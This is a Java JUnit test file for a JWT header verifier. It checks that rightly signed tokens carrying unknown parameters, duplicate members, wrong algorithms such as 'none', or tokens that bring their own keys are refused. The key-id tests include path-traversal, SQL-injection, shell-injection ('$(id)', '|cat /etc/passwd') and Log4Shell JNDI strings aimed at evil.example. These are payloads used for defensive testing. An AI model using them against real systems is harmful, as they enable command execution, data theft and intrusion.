// SPDX-License-Identifier: Apache-2.0
package coattail.core.internal.token;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.nio.file.Path;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import coattail.core.internal.testing.Variants;

/**
 * What a header may not say, though the token is rightly signed: the parameters of RFC 7515, 4.1, RFC 7516, RFC 7797
 * and RFC 7800, and what is tried against parsers. {@link JwsTest} has the plain ones.
 */
class HeaderTricksTest {
    private static final String UNKNOWN = "the token's header has members that this version doesn't know";
    private static final String NOT_JSON = "the token's header isn't JSON, repeats a name or is nested too deep";
    private static final String NO_KEY = "the token's header doesn't name a key";

    private static final Variants VARIANTS =
            Variants.of(HeaderTricksTest.class, "a rightly signed token with another header");

    @TempDir
    static Path folder;

    private static TestIssuer issuer;
    private static TestIssuer attacker;
    private static String payload;

    @BeforeAll
    static void issue() {
        issuer = new TestIssuer(folder.resolve("keys"));
        attacker = new TestIssuer(folder.resolve("attacker"));
        payload = issuer.payload(TokenTerms.DEFAULT);
    }

    @AfterAll
    static void noneIsAccepted() {
        VARIANTS.hold();
    }

    /** JSON is JSON: other implementations write it in their own way. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"alg\":\"EdDSA\",\"typ\":\"ct-at+jwt\",\"kid\":\"KID\"}",
                " { \"kid\" : \"KID\",\r\n\t\"typ\" : \"ct-at+jwt\", \"alg\" : \"EdDSA\" } ",
                "{\"\\u0061lg\":\"Ed\\u0044SA\",\"typ\":\"ct-at\\u002bjwt\",\"kid\":\"KID\"}",
            })
    void theSameHeaderWrittenInAnotherWayIsAccepted(String header) {
        String text = issuer.sign(withKey(header), payload);

        assertDoesNotThrow(() -> issuer.verifier.verify(text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'crit':[]",
                "'crit':['exp']",
                "'crit':['alg','typ','kid']",
                "'crit':'b64'",
                "'crit':null",
                "'crit':['b64'],'b64':false",
                "'crit':['b64'],'b64':true",
                "'b64':true",
                "'b64':false",
                "'zip':'DEF'",
                "'zip':null",
                "'enc':'A256GCM'",
                "'epk':{}",
                "'cty':'JWT'",
                "'jku':'https://evil.example/keys'",
                "'jku':'file:///etc/passwd'",
                "'x5u':'https://evil.example/cert'",
                "'x5c':['MIIB']",
                "'x5t':'AAAA'",
                "'x5t#S256':'AAAA'",
                "'jwk':null",
                "'jwk':{}",
                "'iss':'ISSUER'",
                "'exp':9999999999",
                "'nonce':'AAAA'",
                "'url':'https://a.example'",
                "'ppt':'shaken'",
                "'\\u0063rit':['b64']",
                "'ALG':'none'",
                "'Alg':'EdDSA'",
                "'alg ':'none'",
                "'alg\\u0000':'none'",
                "'\\u0430lg':'none'", // Cyrillic
                "'':''",
                "'KID':'KID'",
                "'typ ':'JWT'",
            })
    void aParameterMoreIsRefused(String member) {
        refused(withMember(member.replace('\'', '"')), UNKNOWN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'alg':'EdDSA'",
                "'alg':'none'",
                "'typ':'ct-at+jwt'",
                "'typ':'ct-vt+jwt'",
                "'kid':'KID'",
                "'kid':'../auth-key'",
                "'\\u0061lg':'none'",
                "'a\\u006Cg':'HS256'",
                "'\\u006b\\u0069\\u0064':'KID'",
            })
    void aParameterTwiceIsRefusedInEitherOrder(String member) {
        String json = withKey(member.replace('\'', '"'));

        refused(withMember(json), NOT_JSON);
        refused("{" + json + "," + issuer.header().substring(1), NOT_JSON);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "null | the token's header's alg isn't a string",
                "0 | the token's header's alg isn't a string",
                "true | the token's header's alg isn't a string",
                "{} | the token's header's alg isn't a string",
                "[\"EdDSA\"] | the token's header's alg isn't a string",
                "\"\" | the token's header's alg isn't EdDSA",
                "\"EdDSA \" | the token's header's alg isn't EdDSA",
                "\" EdDSA\" | the token's header's alg isn't EdDSA",
                "\"EdDSA\\u0000\" | the token's header's alg isn't EdDSA",
                "\"EDDSA\" | the token's header's alg isn't EdDSA",
                "\"\\u0415dDSA\" | the token's header's alg isn't EdDSA",
                "\"Ed25519\" | the token's header's alg isn't EdDSA",
                "\"Ed448\" | the token's header's alg isn't EdDSA",
                "\"HS512\" | the token's header's alg isn't EdDSA",
                "\"RS256\" | the token's header's alg isn't EdDSA",
                "\"PS512\" | the token's header's alg isn't EdDSA",
                "\"ES256\" | the token's header's alg isn't EdDSA",
                "\"ES256K\" | the token's header's alg isn't EdDSA",
                "\"ML-DSA-44\" | the token's header's alg isn't EdDSA",
                "\"dir\" | the token's header's alg isn't EdDSA",
                "\"nOnE\" | the token's header's alg isn't EdDSA",
                "\"none\\u0000\" | the token's header's alg isn't EdDSA",
                "EdDSA | the token's header isn't JSON, repeats a name or is nested too deep",
            })
    void anotherAlgorithmIsRefused(String value, String reason) {
        refused(issuer.header().replace("\"EdDSA\"", value), reason);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/ct-at+jwt",
                "ct-at+jwt ",
                "ct-at+JWT",
                "ct-at+jwt\\u0000",
                "ct-at",
                "at+jwt",
                "JWT",
                "jose",
                "",
            })
    void anotherTypeIsRefused(String type) {
        refused(
                issuer.header().replace("ct-at+jwt", type),
                "the token's header doesn't say that it is an authentication token of Coattail");
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "0", "true", "{}", "[]", "[\"KID\"]", "1e400"})
    void aKeyIdThatIsNoStringIsRefused(String value) {
        refused(
                issuer.header().replaceFirst("\"kid\":\".*?\"", "\"kid\":" + value),
                "the token's header's kid isn't a string");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "KID=",
                "KID ",
                " KID",
                "KID\\n",
                "KID\\u0000",
                "KIDA",
                "ct:KID",
                "file:keys/auth-key.pem",
                "/dev/null",
                "../../../../etc/passwd",
                "..\\\\..\\\\keys",
                "' OR '1'='1",
                "KID'; DROP TABLE tokens; --",
                "|cat /etc/passwd",
                "$(id)",
                "${jndi:ldap://evil.example/a}",
                "https://evil.example/key.json",
                "current",
                "*",
                "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAB", // bits set beyond its end
                "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA+A",
                "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/A",
            })
    void aKeyIdThatIsNoThumbprintIsRefused(String keyId) {
        String header = issuer.header();
        String own = issuer.keys.tokenKey().id();

        refused(header.replace(own, keyId.replace("KID", own)), NO_KEY);
    }

    @Test
    void aKeyIdOfNoKeyInTheRingIsRefused() {
        String header = issuer.header();
        String own = issuer.keys.tokenKey().id();
        String reason = "the token is signed by a key that isn't this instance's, or not any more";
        String swapped = own.chars()
                .mapToObj(c -> String.valueOf((char) (Character.isUpperCase(c) ? c | 0x20 : c >= 'a' ? c & ~0x20 : c)))
                .reduce("", String::concat);

        refused(header.replace(own, "A".repeat(43)), reason);
        refused(header.replace(own, issuer.keys.identityKey().id()), reason);
        refused(header.replace(own, swapped.substring(0, 42) + own.charAt(42)), reason);
    }

    /** The key that verifies comes along in the header (CVE-2018-0114), by value or by address. */
    @Test
    void aKeyThatTheTokenBringsIsNotUsed() {
        String theirs = TestIssuer.encode(attacker.keys.publicKey());
        for (String member : new String[] {
            "\"jwk\":{\"kty\":\"OKP\",\"crv\":\"Ed25519\",\"x\":\"" + theirs + "\"}",
            "\"jku\":\"https://evil.example/keys\"",
            "\"x5c\":[\"" + theirs + "\"]"
        }) {
            String header = withMember(member);
            String text = TestIssuer.sign(attacker.keys.identityKey().privateKey(), header, payload.getBytes(UTF_8));
            assertEquals(
                    UNKNOWN,
                    assertThrows(TokenException.class, () -> issuer.verifier.verify(text))
                            .getMessage());
        }
    }

    private static void refused(String header, String reason) {
        String text = issuer.sign(withKey(header), payload);
        var refusal = assertThrows(TokenException.class, () -> issuer.verifier.verify(text));

        assertEquals(reason, refusal.getMessage());
        VARIANTS.tried(header, false);
    }

    private static String withMember(String member) {
        String header = issuer.header();
        return header.substring(0, header.length() - 1) + "," + member + "}";
    }

    private static String withKey(String header) {
        return header.replace("\"KID\"", "\"" + issuer.keys.tokenKey().id() + "\"")
                .replace("ISSUER", issuer.keys.instanceId());
    }
}
